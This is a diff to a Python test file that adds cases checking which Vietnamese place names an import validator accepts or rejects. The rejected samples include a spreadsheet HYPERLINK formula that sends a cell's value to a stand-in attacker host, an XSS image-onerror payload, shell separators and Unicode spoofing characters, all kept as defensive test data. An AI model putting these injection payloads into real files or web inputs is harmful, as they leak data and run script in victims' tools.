@@ -83,6 +83,33 @@ def test_a_made_code_never_meets_a_given_one(take_in):
     assert sorted(done.codes) == ["15607-001", "15607-002"]
 
 
+# Also by themselves once the kind is taken off; tests of renaming and splitting use them too.
+NO_NAMES = (
+    *('=HYPERLINK("http://evil.example/?"&A1,"Bấm xem")', "@SUM(1+1)", "+1", "-1", "Bản =1+1", "Bản -1", "Bản (1)"),
+    *(
+        "<img src=x onerror=alert(1)>",
+        "Mẫu\u202e1",
+        "Mẫu\u3164",
+        "\u3164",
+        "Mẫu;1",
+        "Mẫu|1",
+        "Mẫu\U000e0041",
+        "Mẫu = 1",
+    ),
+    *("Mẫu" + "\u0300" * 6, "\u0300Mẫu", '"Mẫu"', "Mẫu%0A", "Mẫu_1", "Mẫu 😀"),
+)
+NAMES = (
+    *("Mẫu 1", "Khu 2 (Nam Sơn)", "3/5", "N'Đrung", "Xóm 2 & 3", "Ngọc – Lâm, Hạ", "1A", "Y Bĭh", "ꪎꪳ ꪼꪕ", "St. Thôn"),
+)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_names_as_hamlets_bear_them_are_taken(take_in, name, session):
+    take_in(row(name=name))
+
+    assert session.get(Area, "15607-001").name == name
+
+
 @pytest.mark.parametrize(
     ("faulty", "code"),
     [
@@ -94,6 +121,7 @@ def test_a_made_code_never_meets_a_given_one(take_in):
         (row(name="   "), "no_name"),
         (row(name="..."), "not_a_name"),
         (row(name="Mẫu\x07"), "not_a_name"),
+        *((row(name=name), "not_a_name") for name in NO_NAMES),
         (row(name="Mẫu " * 30), "name_too_long"),
         (row(kind=""), "no_kind"),
         (row(kind="xã"), "unknown_kind"),
